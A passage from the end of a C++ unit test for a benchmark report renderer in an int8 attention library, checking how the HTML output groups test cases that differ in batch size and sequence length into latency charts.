  r.cases.resize(3);  // one group, three sequence lengths
  const int64_t batches[] = {16, 4, 1};  // batch*seq held constant, as configs/int8-targets.json does
  for (size_t i = 0; i < 3; ++i) r.cases[i].dims.batch = batches[i];
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("b16/4/1 h16 kv16 d128"), std::string::npos);
  EXPECT_EQ(html.find("chart-latency-1"), std::string::npos);  // one group, not three

  r.cases[1].dims.seq_q = r.cases[1].dims.seq_kv = r.cases[0].dims.seq_kv;  // a seq_len repeated, other batch
  const std::string split = render_report(r, ReportFormat::Html);
  EXPECT_NE(split.find("chart-latency-1"), std::string::npos);
  EXPECT_NE(split.find("b16 h16 kv16 d128"), std::string::npos);
}

}  // namespace
}  // namespace int8attn
